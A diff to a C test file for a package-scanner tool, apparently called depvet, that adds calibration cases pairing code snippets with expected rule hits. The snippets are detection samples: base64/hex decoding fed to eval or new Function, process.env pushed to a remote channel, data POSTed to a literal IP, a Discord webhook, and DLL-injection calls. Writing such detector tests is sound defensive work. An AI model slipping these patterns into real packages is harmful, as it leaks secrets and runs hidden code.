@@ -13,6 +13,7 @@
 #include "depvet/core/termsafe.h"
 #include "depvet/store/scancache.h"
 #include "helpers.h"
+#include "rules_helper.h"
 
 static const char test_rules[] =
     "[[rule]]\nid='t-eval'\nseverity='high'\nfiles=['*.py']\npatterns=['\\beval\\(']\n"
@@ -35,16 +36,6 @@ static struct rule_set *rules_here(void)
     return rs;
 }
 
-static struct rule_set *rules_shipped(void)
-{
-    char dir[4096];
-    snprintf(dir, sizeof(dir), "%s/rules", test_srcdir());
-    struct diag d;
-    diag_clear(&d);
-    struct rule_set *rs = rules_load_dir(dir, &d);
-    cr_assert_not_null(rs, "%s", d.msg);
-    return rs;
-}
 
 static struct scan_result *scan_one(const struct rule_set *rs, enum ecosystem eco,
                                     const char *path, const char *text)
@@ -656,6 +647,32 @@ static const struct calibration_case calibration_table[] = {
      "reversed-base64", SCAN_SEV_HIGH},
     {"pkg/mod.py", ECO_PYPI, "URL = 'https://discord.com/api/webhooks/123456789/"
      "abcdefghijklmnopqrstuvwxyz'\n", "exfil-webhook-hardcoded", SCAN_SEV_HIGH},
+    /* Recall on principles (issue 15): loaders named by a string and
+     * called, injector calls, decoded data reaching eval through names, a
+     * channel handed the environment, data posted to a literal address. */
+    {"pkg/mod.py", ECO_PYPI, "help = getattr(ct, \"CDLL\")(os.path.join(here, \"_b.py\"))\n",
+     "process-injection", SCAN_SEV_HIGH},
+    {"pkg/compat.py", ECO_PYPI, "WinDLL = getattr(ctypes, \"WinDLL\", None)\n",
+     "process-injection", NO_HIT},
+    {"package/index.js", ECO_NPM,
+     "injector.executeInject(\n  \"Game.exe a:/b\",\n  \"E:\\\\Game\\\\Client.dll\"\n)\n",
+     "process-injection", SCAN_SEV_HIGH},
+    {"package/index.js", ECO_NPM,
+     "const r = Buffer.from(a, 'hex').toString('utf8');\nconst f = new Function(r);\nf(r);\n",
+     "npm-exec-alias", SCAN_SEV_HIGH},
+    {"package/index.js", ECO_NPM, "const r = atob(a);\nlet y = 2;\neval(r);\n", "npm-exec-alias",
+     SCAN_SEV_HIGH},
+    {"package/index.js", ECO_NPM,
+     "const r = Buffer.from(a, 'base64');\nconst f = new Function(src);\nf(r);\n",
+     "npm-exec-alias", NO_HIT},
+    {"package/index.js", ECO_NPM,
+     "function f() {\n  var c = ref.child(\"env\");\n  c.set({m: process.env});\n}\n", "npm-exfil",
+     SCAN_SEV_HIGH},
+    {"package/index.js", ECO_NPM,
+     "fetch(\"http://8.8.8.8/collect\", { method: \"POST\", body: data });\n", "shady-link",
+     SCAN_SEV_MEDIUM},
+    {"pkg/mod.py", ECO_PYPI, "L = [\"https://1.1.1.1\", \"https://8.8.8.8/test\"]\n", "shady-link",
+     NO_HIT},
 };
 
 static const struct scan_hit *find_rule(const struct scan_result *r, const char *rule)
